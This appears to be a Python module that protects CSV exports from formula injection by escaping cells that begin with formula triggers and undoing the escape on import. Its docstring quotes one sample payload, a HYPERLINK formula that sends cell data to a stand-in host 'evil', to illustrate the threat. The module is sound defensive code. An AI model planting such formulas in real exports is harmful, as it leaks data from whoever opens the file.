"""Cells SmartBook writes to files people open in spreadsheet programs (no ORM).

A spreadsheet program reads a CSV cell that starts with ``=``, ``+``, ``-`` or ``@``
(also a tab or a carriage return, which some of them skip first) as a formula: a
client named ``=HYPERLINK("http://evil/?"&A2, "Click")`` would run in the office of
whoever opens the export ("CSV injection"). Every CSV writer passes its cells through
:func:`csv_safe`, which puts an apostrophe in front of such a text, the usual way to
say "text" to a spreadsheet; the import takes it away again (:func:`csv_unescape`),
so an exported file imports back unchanged. Numbers and phone numbers (``+34 600
123 456``, ``-5``) are left as they are: digits, spaces, dots, dashes and brackets
cannot make a formula call anything.

XLSX writers do not need the apostrophe: they write text with an explicit string
type (xlsxwriter's ``write_string``), which a spreadsheet never evaluates.
"""

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_ESCAPE = "'"
# A sign followed by nothing but a number or a phone number: harmless as it is.
_PLAIN_NUMBER_RE = re.compile(r"[+-][\d\s().\-/]*")


def is_formula_like(text):
    """Whether a spreadsheet may read ``text`` as a formula."""
    return (
        isinstance(text, str) and text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER_RE.fullmatch(text)
    )


def csv_safe(text):
    """``text`` as a CSV cell no spreadsheet evaluates."""
    return CSV_ESCAPE + text if is_formula_like(text) else text


def csv_unescape(text):
    """The text :func:`csv_safe` was given (the import reads its own exports back)."""
    if text.startswith(CSV_ESCAPE) and is_formula_like(text[len(CSV_ESCAPE) :]):
        return text[len(CSV_ESCAPE) :]
    return text


def safe_csv_row(cells):
    """A row of text cells, each made safe with :func:`csv_safe`."""
    return [csv_safe(cell) if isinstance(cell, str) else cell for cell in cells]
